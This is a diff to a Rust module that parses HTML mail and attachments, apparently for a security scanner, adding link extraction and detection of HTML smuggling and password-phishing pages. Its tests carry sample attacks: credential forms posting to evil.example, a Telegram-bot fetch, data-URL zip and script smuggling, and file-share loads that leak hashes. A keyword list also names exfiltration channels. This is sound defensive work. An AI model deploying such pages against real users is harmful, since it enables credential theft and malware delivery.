@@ -4,10 +4,14 @@
 use encoding_rs::UTF_8;
 use html5gum::{StartTag, Token};
 
-use super::clipped;
+use super::data_url::{self, DataUrl};
+use super::form::Forms;
 use super::link::{Link, LinkOrigin};
-use super::smuggle::smuggles;
+use super::scheme::{self, Destination, scheme_of};
+use super::smuggle::{in_link, smuggles};
 use super::tokens::Tokens;
+use super::url::{Url, percent_decoded, stripped};
+use super::{clipped, password};
 use crate::structure::Check;
 
 /// Bytes of one page that are read.
@@ -20,6 +24,20 @@ const SCRIPT_BYTES_MAX: usize = 4 << 20;
 const TEXT_BYTES_MAX: usize = 64 << 10;
 /// Characters of a link's text that are kept.
 const SHOWN_MAX: usize = 300;
+/// Bytes of a link that a page's base completes.
+const PIECE_BYTES_MAX: usize = 8 << 10;
+/// Files in links of one page that are kept, and bytes of all of them.
+const FILES_MAX: usize = 100;
+const FILES_BYTES_MAX: usize = 32 << 20;
+/// Letters of a link with a file in it by which the link is known.
+const FILE_LINK_CHARS: usize = 100;
+/// Elements whose `href` loads something for the page, and waits for no click.
+const HREF_LOADS: [&[u8]; 8] =
+    [b"link", b"image", b"use", b"feimage", b"pattern", b"lineargradient", b"radialgradient", b"filter"];
+/// Elements that show another page, and the attribute that names it.
+const FRAMES: [(&[u8], &str); 4] = [(b"iframe", "src"), (b"frame", "src"), (b"embed", "src"), (b"object", "data")];
+/// Attributes that name a picture or something else that is loaded with the page.
+const LOADS: [&str; 5] = ["src", "poster", "background", "dynsrc", "lowsrc"];
 
 /// What was seen of one page.
 #[derive(Debug, Default)]
@@ -36,18 +54,24 @@ pub struct Page {
     pub remote_pictures: usize,
     /// Pictures that nobody sees.
     pub tracking_pixels: usize,
+    /// Files in links of an attached page, and pages in its frames: their names, where they have one, and their bytes.
+    pub members: Vec<(String, Vec<u8>)>,
 }
 
 /// Reads a page. `is_attachment`: it opens in a browser.
 pub fn read(bytes: &[u8], is_attachment: bool) -> Page {
-    let bytes = &bytes[..bytes.len().min(PAGE_BYTES_MAX)];
-    // Browsers believe a byte order mark before anything else (WHATWG Encoding 6.1).
-    let (text, ..) = UTF_8.decode(bytes);
+    let text = decoded(&bytes[..bytes.len().min(PAGE_BYTES_MAX)]);
     let mut reader = PageReader::default();
     for token in Tokens::of(&text) {
         reader.take(token);
     }
     reader.end(is_attachment)
+}
+
+/// A text by its byte order mark, which browsers believe before anything else (WHATWG Encoding 6.1); without one it is
+/// taken for UTF-8.
+pub(crate) fn decoded(bytes: &[u8]) -> std::borrow::Cow<'_, str> {
+    UTF_8.decode(bytes).0
 }
 
 #[derive(Default)]
@@ -58,13 +82,21 @@ struct PageReader {
     script_bytes: usize,
     /// The link that is open: where it leads, and what it has shown so far.
     open: Option<(String, String)>,
+    /// What it saves as, if it is a file.
+    open_name: String,
     in_script: bool,
     in_style: bool,
-    form_action: Option<String>,
-    has_password: bool,
+    /// The first base of the page: no other counts (WHATWG 4.2.3).
+    base: Option<String>,
+    forms: Forms,
     refreshes: Vec<String>,
     redirects: bool,
     handlers: String,
+    /// Files in links, undecoded, with their names.
+    files: Vec<(String, String)>,
+    files_bytes: usize,
+    /// Pages that stand in the attribute of a frame.
+    inner_pages: Vec<String>,
 }
 
 impl PageReader {
@@ -75,8 +107,10 @@ impl PageReader {
                 b"a" => self.close_link(),
                 b"script" => self.in_script = false,
                 b"style" => self.in_style = false,
+                b"form" => self.forms.end(),
                 _ => {}
             },
+            Token::Comment(comment) => self.comment(&comment.value),
             Token::String(text) => {
                 let text = String::from_utf8_lossy(&text.value);
                 if self.in_script {
@@ -86,7 +120,9 @@ impl PageReader {
                         self.script_bytes += text.len();
                         script.push_str(&text);
                     }
-                } else if !self.in_style {
+                } else if self.in_style {
+                    self.style(&text);
+                } else {
                     self.page.text_chars += text.chars().filter(|c| !c.is_whitespace()).count();
                     if self.page.text.len() < TEXT_BYTES_MAX {
                         self.page.text.push_str(&text);
@@ -104,6 +140,22 @@ impl PageReader {
         }
     }
 
+    /// Outlook shows what stands in a conditional comment: its links are links.
+    fn comment(&mut self, comment: &[u8]) {
+        let text = String::from_utf8_lossy(comment);
+        let Some((condition, inner)) = text.trim_start().split_once('>') else { return };
+        if !condition.starts_with("[if") {
+            return;
+        }
+        for token in Tokens::of(inner) {
+            match token {
+                Token::StartTag(tag) if !matches!(tag.name.as_slice(), b"script" | b"style") => self.start(&tag),
+                Token::EndTag(tag) if tag.name.as_slice() == b"a" => self.close_link(),
+                _ => {}
+            }
+        }
+    }
+
     fn start(&mut self, tag: &StartTag<()>) {
         let attribute = |name: &str| {
             let value = tag.attributes.get(name.as_bytes())?;
@@ -116,31 +168,135 @@ impl PageReader {
             }
         }
         match tag.name.as_slice() {
-            b"a" | b"area" => {
-                self.close_link();
-                if let Some(href) = attribute("href") {
-                    self.open = Some((href, String::new()));
-                }
-                if tag.name.as_slice() == b"area" {
-                    self.close_link();
-                }
-            }
             b"script" => {
                 self.in_script = !tag.self_closing;
                 self.scripts.push(String::new());
             }
             b"style" => self.in_style = !tag.self_closing,
-            b"form" => self.form_action = attribute("action").or(self.form_action.take()),
-            b"input" => {
-                self.has_password |= attribute("type").is_some_and(|kind| kind.eq_ignore_ascii_case("password"))
-            }
+            b"form" => self.forms.begin(attribute("id").unwrap_or_default(), attribute("action")),
+            b"input" | b"textarea" if password::is_asked(attribute) => self.forms.asks_for_password(attribute("form")),
             b"meta" if attribute("http-equiv").is_some_and(|kind| kind.eq_ignore_ascii_case("refresh")) => {
-                let content = attribute("content").unwrap_or_default();
-                let target = content.split_once('=').map(|(_, url)| url.trim_matches(['\'', '"', ' ']).to_owned());
-                self.refreshes.extend(target);
+                if let Some(target) = refresh_target(&attribute("content").unwrap_or_default()) {
+                    self.lead(target.clone(), String::new());
+                    self.refreshes.push(target);
+                }
             }
             b"img" => self.picture(attribute("src"), attribute("width"), attribute("height")),
             _ => {}
+        }
+        self.leads(tag.name.as_slice(), &attribute);
+        self.loads(tag.name.as_slice(), &attribute);
+    }
+
+    /// Where an element leads: by a click, by a button, or by showing another page.
+    fn leads(&mut self, name: &[u8], attribute: &impl Fn(&str) -> Option<String>) {
+        let href = || attribute("href").or_else(|| attribute("xlink:href"));
+        let file_name = || attribute("download").unwrap_or_default();
+        match name {
+            b"base" => self.base = self.base.take().or_else(|| attribute("href")),
+            b"a" | b"area" => {
+                self.close_link();
+                // Where both are, renderers do not agree which counts.
+                if let (Some(first), Some(second)) = (attribute("href"), attribute("xlink:href"))
+                    && first != second
+                {
+                    self.lead(second, String::new());
+                }
+                if let Some(target) = href() {
+                    self.open = Some((target, String::new()));
+                    self.open_name = file_name();
+                }
+                if name == b"area" {
+                    self.close_link();
+                }
+            }
+            // SVG, MathML and the buttons that Outlook draws (VML) have links of their own.
+            _ if !HREF_LOADS.contains(&name) => {
+                if let Some(target) = href() {
+                    self.lead(target, file_name());
+                }
+            }
+            _ => {}
+        }
+        if let Some(target) = attribute("action").filter(|_| name == b"form") {
+            self.lead(target, String::new());
+        }
+        if let Some(target) = attribute("formaction") {
+            self.forms.button(target.clone());
+            self.lead(target, String::new());
+        }
+        if let Some((_, source)) = FRAMES.iter().find(|(frame, _)| *frame == name) {
+            if let Some(target) = attribute(source) {
+                self.lead(target, attribute("name").unwrap_or_default());
+            }
+            if self.inner_pages.len() < FILES_MAX {
+                self.inner_pages.extend(attribute("srcdoc"));
+            }
+        }
+        // An animation may set the link of what it stands in (SVG 2, 17.2).
+        let animates = matches!(name, b"set" | b"animate")
+            && attribute("attributename")
+                .is_some_and(|name| name.trim_start_matches("xlink:").eq_ignore_ascii_case("href"));
+        if animates {
+            let values = ["to", "from", "values"].into_iter().filter_map(attribute);
+            for target in values.flat_map(|text| text.split(';').map(str::to_owned).collect::<Vec<_>>()) {
+                self.lead(target, String::new());
+            }
+        }
+    }
+
+    /// What an element loads without a click. From the web that is everyday; from a share it hands over the hash of a
+    /// password.
+    fn loads(&mut self, name: &[u8], attribute: &impl Fn(&str) -> Option<String>) {
+        let is_frame = FRAMES.iter().any(|(frame, _)| *frame == name);
+        for source in LOADS.into_iter().filter(|source| !is_frame || *source != "src").filter_map(attribute) {
+            self.load(source);
+        }
+        if HREF_LOADS.contains(&name)
+            && let Some(source) = attribute("href").or_else(|| attribute("xlink:href"))
+        {
+            self.load(source);
+        }
+        if let Some(style) = attribute("style") {
+            self.style(&style);
+        }
+    }
+
+    fn load(&mut self, source: String) {
+        let source = source.split_at(source.floor_char_boundary(source.len().min(PIECE_BYTES_MAX))).0;
+        let is_told = matches!(scheme::destination(source), Destination::Share(share) if share.is_outside());
+        if is_told {
+            self.lead(source.to_owned(), String::new());
+        }
+    }
+
+    /// What a style sheet loads (CSS `url()`), in a sheet or in an attribute.
+    fn style(&mut self, sheet: &str) {
+        for (at, _) in sheet.match_indices("url(").take(LINKS_MAX) {
+            let near = &sheet[at + 4..sheet.floor_char_boundary((at + PIECE_BYTES_MAX).min(sheet.len()))];
+            let inner = near.trim_start().trim_start_matches(['"', '\'']);
+            let end = inner.find(['"', '\'', ')', '\n']).unwrap_or(inner.len());
+            // A backslash is written twice there.
+            let source = inner[..end].replace("\\\\", "\\");
+            self.load(source);
+        }
+    }
+
+    /// A link of the page, or a file in one.
+    fn lead(&mut self, target: String, file_name: String) {
+        if data_url::is_one(&target) {
+            self.files_bytes += target.len();
+            if self.files.len() < FILES_MAX && self.files_bytes <= FILES_BYTES_MAX {
+                self.files.push((target, file_name));
+            }
+        } else {
+            self.push_link(target, String::new());
+        }
+    }
+
+    fn push_link(&mut self, target: String, shown: String) {
+        if self.page.links.len() < LINKS_MAX {
+            self.page.links.push(Link { shown, ..Link::new(target, LinkOrigin::Page) });
         }
     }
 
@@ -155,39 +311,42 @@ impl PageReader {
     }
 
     fn close_link(&mut self) {
-        if let Some((href, shown)) = self.open.take()
-            && self.page.links.len() < LINKS_MAX
-        {
-            let shown = shown.split_whitespace().collect::<Vec<_>>().join(" ");
-            self.page.links.push(Link { target: href, shown, place: LinkOrigin::Page });
+        let Some((target, shown)) = self.open.take() else { return };
+        let file_name = std::mem::take(&mut self.open_name);
+        if data_url::is_one(&target) {
+            return self.lead(target, file_name);
         }
+        let shown = shown.split_whitespace().collect::<Vec<_>>().join(" ");
+        self.push_link(target, shown);
     }
 
     fn end(mut self, is_attachment: bool) -> Page {
         self.close_link();
+        if let Some(base) = self.base.clone().filter(|base| base_url(base).is_none()) {
+            // A base at a share is as good as a link there.
+            self.load(base);
+        }
+        let base = self.base.take().and_then(|written| Some((base_url(&written)?, written)));
+        if let Some((base, written)) = &base {
+            complete(&mut self.page.links, base, written);
+        }
         if !is_attachment {
+            // Mail programs open them as links, if at all.
+            for (target, _) in std::mem::take(&mut self.files) {
+                self.push_link(target.chars().take(FILE_LINK_CHARS).collect(), String::new());
+            }
             return self.page;
         }
-        let place = LinkOrigin::Attachment;
-        for target in self.refreshes.iter().chain(&self.form_action) {
-            self.page.links.push(Link { target: target.clone(), shown: String::new(), place });
-        }
-        for link in &mut self.page.links {
-            link.place = place;
-        }
-        self.scripts.push(self.handlers);
+        self.links_as_attached();
+        self.files();
+        self.scripts.push(std::mem::take(&mut self.handlers));
         let script = self.scripts.join("\n").to_lowercase();
-        let mut add = |check, evidence: String| self.page.signals.push((check, crate::mime::clean(&evidence)));
         if let Some(how) = smuggles(&self.scripts) {
-            add(Check::HtmlSmuggling, how);
+            self.add(Check::HtmlSmuggling, how);
         }
-        let posts = self.form_action.as_deref().filter(|action| action.starts_with("http") || action.starts_with("//"));
-        if self.has_password && (posts.is_some() || sends(&script)) {
-            let to = posts.map_or("a script sends them".to_owned(), |to| format!("they go to {}", clipped(to)));
-            add(Check::HtmlCredentials, format!("a page that asks for a password; {to}"));
-        }
+        self.credentials(&script, base.as_ref().map(|(base, _)| base));
         if let Some(how) = writes_itself(&script) {
-            add(Check::HtmlDecoded, how);
+            self.add(Check::HtmlDecoded, how);
         }
         self.redirects |= ["location.href=", "location.replace(", "location=", "location.assign("]
             .iter()
@@ -195,18 +354,137 @@ impl PageReader {
         let is_empty = self.page.text_chars < 50;
         if (self.redirects || !self.refreshes.is_empty()) && is_empty {
             let to = self.refreshes.first().map(|to| format!(" to {}", clipped(to))).unwrap_or_default();
-            add(Check::HtmlRedirect, format!("a page that only moves on{to}"));
+            self.add(Check::HtmlRedirect, format!("a page that only moves on{to}"));
         }
         self.page
     }
+
+    fn add(&mut self, check: Check, evidence: String) {
+        self.page.signals.push((check, crate::mime::clean(&evidence)));
+    }
+
+    /// In a browser a link with a script is a script of the page.
+    fn links_as_attached(&mut self) {
+        for link in &mut self.page.links {
+            link.place = LinkOrigin::Attachment;
+        }
+        let is_script = |link: &Link| {
+            let head = link.target.get(..link.target.floor_char_boundary(64)).unwrap_or_default();
+            scheme_of(&stripped(head)).is_some_and(|(scheme, _)| scheme == "javascript")
+        };
+        for link in self.page.links.extract_if(.., |link| is_script(link)) {
+            if self.handlers.len() < SCRIPT_BYTES_MAX {
+                self.handlers.push_str(&percent_decoded(&link.target));
+                self.handlers.push('\n');
+            }
+        }
+    }
+
+    /// The files in links: each is a part of the mail, and a program or an archive among them is smuggled.
+    fn files(&mut self) {
+        for (target, name) in std::mem::take(&mut self.files) {
+            let Some(data) = DataUrl::parse(&target) else { continue };
+            if let Some(how) = in_link(&data, &name) {
+                self.add(Check::HtmlSmuggling, how);
+            }
+            if !data.bytes.is_empty() {
+                self.page.members.push((name, data.bytes));
+            }
+        }
+        let pages = std::mem::take(&mut self.inner_pages);
+        self.page.members.extend(pages.into_iter().map(|page| ("frame.html".to_owned(), page.into_bytes())));
+    }
+
+    fn credentials(&mut self, script: &str, base: Option<&url::Url>) {
+        if !self.forms.ask() && !password::is_made_by(script) {
+            return;
+        }
+        let whole = |target: &str| base.and_then(|base| completed(base, target)).unwrap_or_else(|| target.to_owned());
+        let posts = self.forms.targets().map(whole).find(|target| leaves(target));
+        if posts.is_some() || sends(script) {
+            let to = posts.map_or("a script sends them".to_owned(), |to| format!("they go to {}", clipped(&to)));
+            self.add(Check::HtmlCredentials, format!("a page that asks for a password; {to}"));
+        }
+    }
+}
+
+/// Whether a form with this action sends what is typed away: to a site, or by mail.
+fn leaves(action: &str) -> bool {
+    let plain = stripped(action);
+    Url::parse(&plain).is_some() || scheme_of(&plain).is_some_and(|(scheme, _)| scheme == "mailto")
+}
+
+/// The base of a page, as browsers read it.
+fn base_url(written: &str) -> Option<url::Url> {
+    let plain = stripped(written.get(..written.floor_char_boundary(PIECE_BYTES_MAX))?);
+    let whole = if plain.starts_with("//") { format!("https:{plain}") } else { plain };
+    url::Url::parse(&whole).ok().filter(|base| matches!(base.scheme(), "http" | "https") && base.has_host())
+}
+
+/// Completes the links of a page that are only a piece with the page's base.
+fn complete(links: &mut Vec<Link>, base: &url::Url, written: &str) {
+    let mut is_used = false;
+    for link in links.iter_mut() {
+        if let Some(whole) = completed(base, &link.target) {
+            link.target = whole;
+            link.base = written.to_owned();
+            is_used = true;
+        }
+    }
+    if is_used && links.len() < LINKS_MAX {
+        // How it is written is looked at as well.
+        let target = written.to_owned();
+        links.push(Link { base: target.clone(), ..Link::new(target, LinkOrigin::Page) });
+    }
+}
+
+/// A link completed with a base; none if it is whole by itself, or a place in its page.
+fn completed(base: &url::Url, target: &str) -> Option<String> {
+    let plain = stripped(target);
+    let is_whole = match scheme_of(&plain) {
+        // https:page is a piece where the base has the same scheme (WHATWG URL 4.4, scheme state).
+        Some((scheme, rest)) => scheme != base.scheme() || rest.starts_with(['/', '\\']),
+        None => plain.starts_with("//") || plain.starts_with("\\") || plain.starts_with("/\\"),
+    };
+    if plain.is_empty() || plain.starts_with('#') || is_whole || plain.len() > PIECE_BYTES_MAX {
+        return None;
+    }
+    base.join(&plain).ok().map(String::from)
+}
+
+/// Where a refresh leads (WHATWG 4.2.5.3): the seconds, then the link, with or without `url=` and quotes.
+fn refresh_target(content: &str) -> Option<String> {
+    let rest = content.trim_start().trim_start_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | ','));
+    let named = rest.get(..3).filter(|word| word.eq_ignore_ascii_case("url")).map(|_| rest[3..].trim_start());
+    let target = named.and_then(|rest| rest.strip_prefix('=')).map_or(rest, str::trim_start);
+    let quote = target.chars().next().filter(|c| matches!(c, '"' | '\''));
+    let target = quote.map_or(target, |quote| target[1..].split(quote).next().unwrap_or_default());
+    Some(target.trim().to_owned()).filter(|target| !target.is_empty())
 }
 
 fn without_blanks(text: &str) -> String {
     text.chars().filter(|c| !c.is_whitespace()).collect()
 }
 
+/// Whether a script sends something away, or has a form do it.
 fn sends(script: &str) -> bool {
-    ["xmlhttprequest", "fetch(", "$.ajax", "$.post", "sendbeacon", "axios"].iter().any(|word| script.contains(word))
+    let words = [
+        "xmlhttprequest",
+        "fetch(",
+        "$.ajax",
+        "$.post",
+        "sendbeacon",
+        "axios",
+        "api.telegram.org/bot",
+        "discord.com/api/webhooks",
+        "emailjs.send",
+    ];
+    let plain = without_blanks(script);
+    words.iter().any(|word| script.contains(word))
+        || ["action='http", "action=\"http", "action','http", "action\",\"http"]
+            .iter()
+            .any(|word| plain.match_indices(word).any(|(at, _)| plain[..at].ends_with(['.', '\'', '"'])))
 }
 
 /// A page whose real content is decoded and written when it opens.
@@ -320,6 +598,138 @@ mod tests {
             ),
             []
         );
+    }
+
+    fn targets(html: &str) -> Vec<String> {
+        read(html.as_bytes(), false).links.into_iter().map(|link| link.target).collect()
+    }
+
+    #[test]
+    fn everything_that_leads_somewhere_is_a_link() {
+        for html in [
+            "<form action='https://a.example/'>",
+            "<form><button formaction='https://a.example/'>",
+            "<svg><a xlink:href='https://a.example/'><text>x</text></a></svg>",
+            "<svg><a><set attributeName=href to='https://a.example/'/></a></svg>",
+            "<math href='https://a.example/'><mi>x</mi></math>",
+            "<iframe src='https://a.example/'></iframe>",
+            "<object data='https://a.example/'></object>",
+            "<embed src='https://a.example/'>",
+            "<map><area href='https://a.example/'></map>",
+            "<v:roundrect href='https://a.example/'></v:roundrect>",
+            "<!--[if mso]><a href='https://a.example/'>x</a><![endif]-->",
+            "<meta http-equiv=Refresh content='3;https://a.example/'>",
+            "<meta http-equiv=refresh content='0; URL = \"https://a.example/\"'>",
+            "<meta http-equiv=refresh content=\"0,url='https://a.example/'\">",
+        ] {
+            assert_eq!(targets(html), ["https://a.example/"], "{html}");
+        }
+        for html in [
+            "<img src='https://a.example/a.png' srcset='https://a.example/b.png 2x'>",
+            "<td background='https://a.example/a.png'>",
+            "<div style='background:url(https://a.example/a.png)'>",
+            "<style>@import url('https://a.example/a.css')</style>",
+            "<link rel=stylesheet href='https://a.example/a.css'>",
+            "<svg><image xlink:href='https://a.example/a.png'/></svg>",
+            "<meta http-equiv=refresh content='300'>",
+            "<base href='https://a.example/' target=_blank>",
+            "<!-- <a href='https://a.example/'>x</a> -->",
+        ] {
+            assert_eq!(targets(html), [""; 0], "{html}");
+        }
+        for html in [
+            "<img src='file://203.0.113.9/a.png'>",
+            "<img src='\\\\evil.example\\a\\b.png'>",
+            "<td background='file:///\\\\203.0.113.9\\a'>",
+            "<div style=\"background:url('file://203.0.113.9/a')\">",
+            "<style>p{background:url(\\\\\\\\203.0.113.9\\\\a)}</style>",
+            "<link rel=stylesheet href='file://203.0.113.9/a.css'>",
+            "<base href='file://203.0.113.9/'>",
+        ] {
+            assert_eq!(targets(html).len(), 1, "{html}");
+        }
+        assert_eq!(targets("<img src='\\\\server\\a.png'><img src='file:///C:/a.png'>").len(), 0);
+    }
+
+    #[test]
+    fn the_first_base_completes_what_is_a_piece() {
+        let page = read(
+            b"<a href=one>1</a><base target=_blank><base href='https://evil.example/login/'><base \
+            href='https://www.example.com/'><a href='https:two'>2</a><a href='https://c.example/'>3</a><a \
+            href='#top'>4</a><a href='mailto:a@b.example'>5</a><a href='//d.example/'>6</a>",
+            false,
+        );
+        let seen: Vec<(&str, bool)> =
+            page.links.iter().map(|link| (link.target.as_str(), link.base.is_empty())).collect();
+        assert_eq!(
+            seen,
+            [
+                ("https://evil.example/login/one", false),
+                ("https://evil.example/login/two", false),
+                ("https://c.example/", true),
+                ("#top", true),
+                ("mailto:a@b.example", true),
+                ("//d.example/", true),
+                ("https://evil.example/login/", false),
+            ]
+        );
+    }
+
+    #[test]
+    fn files_in_links_of_an_attached_page() {
+        use Check as C;
+        let zip = "data:application/octet-stream;base64,UEsDBBQAAAAIANkze108EJyhOQAAADkAAAABAAAA";
+        for html in [
+            format!("<a href='{zip}' download='invoice.zip'>x</a>"),
+            format!("<iframe src='{zip}'></iframe>"),
+            format!("<object data='{zip}'></object>"),
+            format!("<meta http-equiv=refresh content='0;url={zip}'><p>{}</p>", "text ".repeat(20)),
+            format!("<svg><a xlink:href='{zip}'>x</a></svg>"),
+            format!("<form action='{zip}'>"),
+            "<a href='data:,WScript.Echo(1)' download='a.js'>x</a>".to_owned(),
+            format!("<script>a.href='{zip}';a.download='x';a.click()</script>"),
+        ] {
+            assert_eq!(checks(&html), [C::HtmlSmuggling], "{html}");
+        }
+        for html in [
+            "<a href='data:text/csv,a%2Cb' download='table.csv'>table</a>",
+            "<a href='data:application/json;base64,e30=' download=data.json>data</a>",
+            "<a href='data:image/png;base64,iVBORw0KGgo=' download=plot.png>plot</a>",
+            "<iframe src='data:text/html,<p>hello</p>'></iframe>",
+            "<img src='data:image/png;base64,iVBORw0KGgo='>",
+        ] {
+            assert_eq!(checks(html), [], "{html}");
+        }
+        let page = read(b"<a href='data:;base64,UEsDBA==' download=a.zip>x</a><iframe srcdoc='<p>inner</p>'>", true);
+        let expected =
+            [("a.zip".to_owned(), b"PK\x03\x04".to_vec()), ("frame.html".to_owned(), b"<p>inner</p>".to_vec())];
+        assert_eq!(page.members, expected);
+        assert!(read(b"<a href='data:;base64,UEsDBA=='>x</a>", false).members.is_empty(), "a mail's own page");
+    }
+
+    #[test]
+    fn passwords_are_asked_for_in_many_ways() {
+        use Check as C;
+        for html in [
+            "<form action='mailto:evil@evil.example'><input type=password></form>",
+            "<form action='/x'><input type=text placeholder='Passwort'><button formaction='https://evil.example/'>",
+            "<form id=f action='//evil.example/'></form><input type=password form=f>",
+            "<form action='https:/\\evil.example/'><input name=pwd></form>",
+            "<base href='https://evil.example/'><form action='p'><input type=password></form>",
+            "<script>f.innerHTML='<input type=\"password\">';fetch('https://api.telegram.org/bot1:x/send')</script>",
+            "<form id=f><input type=password></form><script>f.action = 'https://evil.example/'</script>",
+            "<form action='https://evil.example/p'><input type=password></form><form action='/search'><input></form>",
+        ] {
+            assert_eq!(checks(html), [C::HtmlCredentials], "{html}");
+        }
+        for html in [
+            "<form action='login'><input type=password></form><form action='https://www.example.com/s'><input></form>",
+            "<form action='https://www.example.com/search'><input name=q placeholder='Search'></form>",
+            "<h1>Router manual</h1><p>Type the password that is on the label, then press Save: it is kept.</p>",
+            "<form action='https://www.example.com/'><input name=passenger></form>",
+        ] {
+            assert_eq!(checks(html), [], "{html}");
+        }
     }
 
     #[test]
